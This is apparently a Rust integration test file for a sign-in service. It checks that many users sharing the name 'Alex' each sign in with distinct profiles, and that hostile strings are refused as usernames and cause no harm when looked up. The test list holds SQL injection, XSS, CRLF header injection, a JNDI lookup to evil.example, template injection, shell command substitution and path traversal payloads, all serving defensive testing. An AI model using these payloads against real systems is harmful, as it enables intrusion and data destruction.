//! F7, F8: names that are code elsewhere, and names that many have.

use std::collections::BTreeSet;
use std::sync::Arc;

use serde_json::{Value, json};
use tokio::task::JoinSet;
use url::form_urlencoded;
use vestibule_provider_emulator::Persona;

use crate::world::{World, on_both_databases};

/// How many arrive with one and the same name.
const CROWD: u32 = 100;

/// All of them are called Alex, at GitHub by login as well.
async fn sign_in_crowd(world: &Arc<World>) -> Vec<String> {
    let mut sign_ins = JoinSet::new();
    for number in 1..=CROWD {
        let id = format!("alex-{number}");
        let mut persona = Persona::ordinary(&id, "Alex", number);
        persona.github.user["login"] = json!("alex");
        world.control().put_persona(persona);
        let world = Arc::clone(world);
        sign_ins.spawn(async move { world.sign_in("github", &id).await });
    }
    sign_ins.join_all().await
}

async fn choose(world: &World, token: &str, username: &str) -> Value {
    world.post_as(token, "/auth/update", &[("username", username)]).await.json()
}

on_both_databases! {
    /// A name at a provider is never made into a username, so there is nothing to make unique.
    async fn f8_a_hundred_newcomers_of_one_name_that_is_taken_all_sign_in(database) {
        let world = Arc::new(World::on(database).await);
        let holder = world.sign_in("google", "ada").await;
        assert_eq!(choose(&world, &holder, "alex").await, json!({"success": true}));

        let tokens = sign_in_crowd(&world).await;
        let mut ids = BTreeSet::new();
        for token in &tokens {
            let profile = world.profile(token).await;
            assert_eq!((&profile["name"], profile.get("username")), (&json!("Alex"), None));
            ids.insert(profile["id"].as_str().unwrap().to_owned());
        }
        assert_eq!(ids.len(), tokens.len());
        let taken = choose(&world, &tokens[0], "Alex").await;
        assert_eq!(taken, json!({"success": false, "error": "this username is taken"}));
        assert_eq!(choose(&world, &tokens[0], "alex-1").await, json!({"success": true}));
    }

    /// Whoever asks for one of them finds nobody, and nothing happens besides.
    async fn f7_what_is_code_elsewhere_is_no_username_and_only_text_when_it_is_looked_up(database) {
        let world = World::on(database).await;
        let token = world.sign_in("google", "ada").await;
        assert_eq!(choose(&world, &token, "ada").await, json!({"success": true}));
        let other = world.sign_in("google", "linus").await;
        for hostile in [
            "' OR '1'='1", "ada'--", "ada' UNION SELECT id FROM users--", "'; DELETE FROM users; --", "ad%", "ada\\",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "\u{1b}[31mada\u{1b}[0m",
            "ada\r\nSet-Cookie: x=y", "${jndi:ldap://evil.example/x}", "{{7*7}}", "$(id)", "`id`", "../../etc/passwd",
        ] {
            let answer = choose(&world, &other, hostile).await;
            assert_eq!(answer["success"], false, "{hostile:?}: {answer}");
            let escaped: String = form_urlencoded::byte_serialize(hostile.as_bytes()).collect();
            let browser = world.browser();
            let found = browser.get(&format!("/auth/resolve?username={escaped}")).await;
            assert_eq!((found.status.as_u16(), found.json()), (200, json!({"userid": null})), "{hostile:?}");
            let found = browser.get(&format!("/auth/get_profile?username={escaped}")).await;
            assert_eq!(found.json(), json!({"found": false, "profile": null}), "{hostile:?}");
        }
        assert_eq!(world.profile(&token).await["username"], "ada");
        assert!(world.profile(&other).await.get("username").is_none());
        let logs = world.program.logs();
        for trace in ["<script>", "\u{1b}[31m", "\nSet-Cookie", "UNION SELECT"] {
            assert!(!logs.contains(trace), "{trace:?} is in the log");
        }
    }
}
